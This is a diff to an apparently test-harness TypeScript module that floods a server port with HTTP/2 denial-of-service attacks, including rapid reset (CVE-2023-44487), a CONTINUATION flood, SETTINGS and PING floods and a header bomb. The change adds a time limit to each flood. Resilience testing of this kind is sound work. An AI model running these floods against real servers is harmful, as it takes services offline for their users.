@@ -1,6 +1,6 @@
 // Connections that speak HTTP/2 so as to cost more than they pay; run beside the honest, in a thread of their own.
 import { parentPort, workerData } from 'node:worker_threads'
-import { flags, flood, frame, getHead, literal, number, openHttp2 } from './http2-frames.ts'
+import { endMs, flags, flood, frame, getHead, literal, number, openHttp2 } from './http2-frames.ts'
 
 type Attack = (port: number) => Promise<boolean>
 
@@ -8,27 +8,32 @@ type Attack = (port: number) => Promise<boolean>
 export const attacks: Record<string, Attack> = {
   'rapid reset (CVE-2023-44487)': async (port) => {
     const socket = await openHttp2(port)
-    return flood(socket, 20_000, (i) => {
-      const stream = 2 * i + 1
-      const head = frame('headers', flags.endHeaders | flags.endStream, stream, getHead)
-      return Buffer.concat([head, frame('reset', 0, stream, number(8))])
-    })
+    return flood(
+      socket,
+      20_000,
+      (i) => {
+        const stream = 2 * i + 1
+        const head = frame('headers', flags.endHeaders | flags.endStream, stream, getHead)
+        return Buffer.concat([head, frame('reset', 0, stream, number(8))])
+      },
+      endMs,
+    )
   },
   'a flood of CONTINUATION (CVE-2024-27983)': async (port) => {
     const socket = await openHttp2(port)
     socket.write(frame('headers', 0, 1, getHead))
     const part = frame('continuation', 0, 1, literal('x-part', 'y'.repeat(1_000)))
-    return flood(socket, 100_000, () => part)
+    return flood(socket, 100_000, () => part, endMs)
   },
   'a flood of SETTINGS': async (port) => {
     const socket = await openHttp2(port)
     socket.pause()
-    return flood(socket, 200_000, () => frame('settings', 0, 0))
+    return flood(socket, 200_000, () => frame('settings', 0, 0), endMs)
   },
   'a flood of PING that nobody reads the answers of': async (port) => {
     const socket = await openHttp2(port)
     socket.pause()
-    return flood(socket, 200_000, () => frame('ping', 0, 0, Buffer.alloc(8)))
+    return flood(socket, 200_000, () => frame('ping', 0, 0, Buffer.alloc(8)), endMs)
   },
   'a bomb of headers that compress well': async (port) => {
     const socket = await openHttp2(port)
@@ -61,5 +66,5 @@ if (parentPort !== null) {
   const { name, port, connections } = workerData as Order
   const attack = attacks[name] as Attack
   const ended = await Promise.all(Array.from({ length: connections }, () => attack(port)))
-  parentPort.postMessage(ended)
+  parentPort.postMessage(ended, [])
 }
